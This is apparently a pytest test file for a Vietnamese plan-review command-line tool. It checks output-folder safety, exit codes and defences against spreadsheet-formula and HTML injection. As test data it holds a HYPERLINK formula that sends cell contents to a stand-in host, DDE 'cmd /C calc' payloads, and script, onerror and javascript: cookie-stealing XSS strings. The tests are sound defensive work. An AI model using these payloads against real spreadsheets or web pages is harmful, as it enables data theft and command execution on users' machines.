"""Issue 12: output folders never mix or destroy, exit codes scripts can trust, no formula or HTML injection,
a readable memo for a draft with hundreds of findings."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pipeline.apps.cli import main
from planreview_testing.synthetic import clean_spec, write_draft

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_DOCX = ROOT / "samples" / "de-an-cds-dong-hai.docx"
SAMPLE_TXT = ROOT / "samples" / "de-an-cds-bac-ha.txt"
FORMULA = '=HYPERLINK("http://thu-thap.example/?d="&A1,"Xem chi tiết")'
DDE = "@SUM(1+9)*cmd /C calc Phòng Tư pháp"  # a pipe table cannot hold the '|' of a DDE payload
PLAIN_EQ = "=1+2 Phòng Tư pháp"
HTML_TASK = ('Xây dựng <script>alert("x")</script> cổng <img src=x onerror=alert(1)> tại '
             '[trang dịch vụ công](javascript:alert(document.cookie)) của xã')
SHARED = ("=2+3 Ủy ban nhân dân xã chịu trách nhiệm tổ chức triển khai, theo dõi, đôn đốc các cơ quan đơn vị thực "
          "hiện đề án chuyển đổi số trên địa bàn")


def _run(*args: str, timeout: float = 300, **kwargs) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "pipeline.apps.cli", *args], capture_output=True, text=True,
                          cwd=ROOT, env=env, timeout=timeout, **kwargs)


def hostile_txt(path: Path, district: str = "Hòa Bình", blank_owners: bool = True) -> Path:
    """A plain-text draft (pipe tables, like a copy from Word) with 60 tasks lacking an owner, cells that look
    like spreadsheet formulas, raw HTML and a javascript: link."""
    write_draft(clean_spec(district=district, extra_tasks=60), path)
    text = path.read_text(encoding="utf-8")
    if blank_owners:
        text = re.sub(r"^(\| \d+ \| Nhiệm vụ bổ sung[^|]*\|)[^|]*\|", r"\1  |", text, flags=re.M)
    lines = text.splitlines()
    task_rows = [i for i, line in enumerate(lines) if line.startswith("| ") and "Nhiệm vụ bổ sung" in line]
    for i, payload in zip(task_rows, (FORMULA, DDE, PLAIN_EQ, HTML_TASK)):
        cells = lines[i].split("|")
        cells[2] = f" {payload} "
        lines[i] = "|".join(cells)
    para = next(i for i, line in enumerate(lines) if line.startswith("Hiện nay,"))  # in the hiện trạng section
    lines.insert(para + 1, 'Xem thêm <script>alert("x")</script> và <img src=x onerror=alert(1)> tại '
                           '[cổng thông tin](javascript:alert(document.cookie)) của huyện trong năm nay.')
    lines.insert(para + 2, SHARED + ".")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# --------------------------------------------------------------------------- output folders


def test_second_draft_into_same_folder_is_refused_unless_overwrite(tmp_path):
    out = tmp_path / "out"
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus"]) == 0
    memo_a = (out / "memo.md").read_bytes()
    proc = _run("review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus")
    assert proc.returncode == 2 and "--overwrite" in proc.stderr and "de-an-cds-dong-hai.docx" in proc.stderr
    assert (out / "memo.md").read_bytes() == memo_a  # A's results untouched
    assert main(["review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus", "--overwrite"]) == 0
    names = {p.name for p in out.iterdir() if not p.name.startswith(".")}
    assert names == {"memo.md", "memo.html", "memo.docx", "findings.json", "tasks.csv", "tasks.xlsx",
                     "draft.snapshot.json"}
    assert json.loads((out / "findings.json").read_text(encoding="utf-8"))["document"]["path"].endswith(".txt")
    # reviewing the same draft again needs no --overwrite
    assert main(["review", str(SAMPLE_TXT), "-o", str(out), "--no-corpus"]) == 0


def test_failing_writer_leaves_the_old_results_intact(tmp_path):
    out = tmp_path / "out"
    assert main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "memo.md.j2").write_text("MẪU RIÊNG {{ title }}\n", encoding="utf-8")
    (templates / "memo.html.j2").write_text("{% if %}broken", encoding="utf-8")  # a council's broken template
    code = main(["review", str(SAMPLE_DOCX), "-o", str(out), "--no-corpus", "--template-dir", str(templates)])
    assert code != 0
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after == before  # memo.md is still the old one, nothing new appeared
    assert not [p for p in out.iterdir() if p.is_dir()]  # no temporary folder left


def test_the_draft_is_never_overwritten(tmp_path):
    draft = tmp_path / "memo.docx"
    shutil.copy(SAMPLE_DOCX, draft)
    data = draft.read_bytes()
    proc = _run("review", str(draft), "-o", str(tmp_path), "--no-corpus")
    assert proc.returncode == 2 and "overwrite the draft" in proc.stderr
    assert draft.read_bytes() == data


def test_batch_never_reads_its_own_outputs(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    shutil.copy(SAMPLE_DOCX, drafts / "a.docx")
    shutil.copy(SAMPLE_TXT, drafts / "b.txt")
    counts = []
    for _ in range(3):
        main(["batch", str(drafts), "-o", str(drafts / "ket-qua"), "--no-corpus", "--no-progress", "-j", "1"])
        with (drafts / "ket-qua" / "summary.csv").open(encoding="utf-8-sig") as fh:
            counts.append(len(list(csv.DictReader(fh))))
    assert counts == [2, 2, 2]
    # an older batch written to another sub-folder is not read as drafts either
    main(["batch", str(drafts), "-o", str(drafts / "lan-2"), "--no-corpus", "--no-progress", "-j", "1"])
    with (drafts / "lan-2" / "summary.csv").open(encoding="utf-8-sig") as fh:
        assert len(list(csv.DictReader(fh))) == 2


# --------------------------------------------------------------------------- exit codes


def test_output_path_that_is_a_file_exits_2_before_the_review(tmp_path):
    target = tmp_path / "out"
    target.write_text("x", encoding="utf-8")
    start = time.perf_counter()
    proc = _run("review", str(SAMPLE_DOCX), "-o", str(target))
    elapsed = time.perf_counter() - start
    assert proc.returncode == 2 and "output path is a file" in proc.stderr and "Traceback" not in proc.stderr
    assert "Đã rà soát" not in proc.stdout and elapsed < 5


@pytest.fixture
def readonly_dir(tmp_path):
    folder = tmp_path / "chi-doc"
    folder.mkdir()
    if os.geteuid() == 0:
        if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(folder)]).returncode:
            pytest.skip("needs chattr to make a folder read-only for root")
        yield folder
        subprocess.run(["chattr", "-i", str(folder)])
    else:
        folder.chmod(0o555)
        yield folder
        folder.chmod(0o755)


def test_read_only_output_folder_exits_2_before_the_review(readonly_dir):
    proc = _run("review", str(SAMPLE_DOCX), "-o", str(readonly_dir / "out"))
    assert proc.returncode == 2 and "not writable" in proc.stderr and "Đã rà soát" not in proc.stdout
    proc = _run("batch", str(ROOT / "samples"), "-o", str(readonly_dir))
    assert proc.returncode == 2 and "not writable" in proc.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file")
def test_unreadable_draft_exits_2(tmp_path):
    draft = tmp_path / "a.docx"
    shutil.copy(SAMPLE_DOCX, draft)
    draft.chmod(0)
    proc = _run("review", str(draft), "-o", str(tmp_path / "out"))
    assert proc.returncode == 2 and "Cannot read the draft" in proc.stderr


def test_closed_pipe_is_not_a_traceback(tmp_path):
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    proc = subprocess.Popen([sys.executable, "-m", "pipeline.apps.cli", "review", str(SAMPLE_TXT), "-o",
                             str(tmp_path / "out"), "--no-corpus"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            cwd=ROOT, env=env)
    proc.stdout.close()  # like `| head -1` that has already exited
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=300) == 0
    assert "BrokenPipeError" not in err and "Traceback" not in err and "Exception ignored" not in err


def test_batch_with_failed_drafts_exits_4_and_says_how_many(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    shutil.copy(SAMPLE_TXT, drafts / "tot.txt")
    (drafts / "hong.docx").write_bytes(b"PK\x03\x04 broken zip")
    proc = _run("batch", str(drafts), "-o", str(tmp_path / "out"), "--no-corpus", "--no-progress", "-j", "1")
    assert proc.returncode == 4 and "1/2" in proc.stderr and "failed" in proc.stderr


def test_corpus_add_with_a_missing_path_exits_2(tmp_path):
    store = tmp_path / "kho.sqlite"
    proc = _run("corpus", "add", str(SAMPLE_TXT), str(tmp_path / "khong-co.docx"), "--store", str(store),
                "--no-progress")
    assert proc.returncode == 2 and "khong-co.docx" in proc.stderr and "Traceback" not in proc.stderr


# --------------------------------------------------------------------------- injection and a readable memo


@pytest.fixture(scope="module")
def hostile_review(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    draft = hostile_txt(folder / "du-thao-hoa-binh.txt")
    out = folder / "out"
    assert main(["review", str(draft), "-o", str(out), "--no-corpus"]) == 0
    return out


def test_xlsx_stores_draft_text_as_strings_never_formulas(hostile_review):
    from openpyxl import load_workbook

    ws = load_workbook(hostile_review / "tasks.xlsx")["Nhiệm vụ"]
    column = [c for c in ws["D"][1:]]
    texts = {c.value: c.data_type for c in column}
    for payload in (FORMULA, DDE, PLAIN_EQ):
        assert texts.get(payload) == "s", payload
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_csv_cells_that_start_like_formulas_are_prefixed(hostile_review):
    with (hostile_review / "tasks.csv").open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + FORMULA in cells and "'" + DDE in cells and "'" + PLAIN_EQ in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_summary_and_shared_passages_csv_are_prefixed(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    hostile_txt(drafts / "a.txt", "Hòa Bình", blank_owners=False)
    hostile_txt(drafts / "b.txt", "Tân Lập", blank_owners=False)
    from pipeline.apps.batch import BatchRow, write_summary

    main(["batch", str(drafts), "-o", str(tmp_path / "out"), "--no-corpus", "--no-progress", "-j", "1"])
    with (tmp_path / "out" / "shared_passages.csv").open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert any(c.startswith("'=2+3 Ủy ban") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    write_summary([BatchRow(file="=cmd|' /C calc'!A0.docx", status="error", error="@SUM(1)")], tmp_path, [])
    with (tmp_path / "summary.csv").open(encoding="utf-8-sig") as fh:
        row = list(csv.reader(fh))[1]
    assert row[0] == "'=cmd|' /C calc'!A0.docx" and row[-1] == "'@SUM(1)"


def test_memo_md_escapes_raw_html_and_javascript_links(hostile_review):
    md = (hostile_review / "memo.md").read_text(encoding="utf-8")
    assert "\\<script>" in md  # the draft's words are kept, as text (a backslash escape, no entity)
    assert not re.search(r"(?<!\\)<(script|img)", md)
    assert "&lt;" not in md and "&gt;" not in md
    assert not re.search(r"\]\(\s*javascript:", md, re.I)


def test_memo_lists_at_most_50_per_rule_and_findings_json_keeps_all(hostile_review):
    findings = json.loads((hostile_review / "findings.json").read_text(encoding="utf-8"))["findings"]
    owner = [f for f in findings if f["rule_id"] == "TASK-01"]
    assert len(owner) >= 60
    md = (hostile_review / "memo.md").read_text(encoding="utf-8")
    assert f"và {len(owner) - 50} trường hợp khác" in md
    assert f"và {len(owner) - 50} trường hợp khác" in (hostile_review / "memo.html").read_text(encoding="utf-8")
    import docx

    text = "\n".join(p.text for p in docx.Document(str(hostile_review / "memo.docx")).paragraphs)
    assert f"và {len(owner) - 50} trường hợp khác" in text
    from openpyxl import load_workbook

    ws = load_workbook(hostile_review / "tasks.xlsx")["Nhiệm vụ"]
    assert ws.max_row - 1 == len(json.loads((hostile_review / "findings.json").read_text(encoding="utf-8"))["tasks"])


def test_fast_docx_rows_match_python_docx_markup():
    import docx

    from pipeline.render.docx_xml import append_table_rows as append_docx_rows

    rows = [["1", "Nhiệm vụ có\nhai dòng", None, ""], ["2", "  khoảng trắng giữ nguyên ", 3.5, "x"]]
    slow, fast = docx.Document(), docx.Document()
    a, b = slow.add_table(rows=1, cols=4), fast.add_table(rows=1, cols=4)
    for row in rows:
        for cell, value in zip(a.add_row().cells, row):
            cell.text = str(value if value is not None else "")
    append_docx_rows(b, rows)
    assert [[c.text for c in r.cells] for r in a.rows] == [[c.text for c in r.cells] for r in b.rows]
    assert [[c.width for c in r.cells] for r in a.rows] == [[c.width for c in r.cells] for r in b.rows]
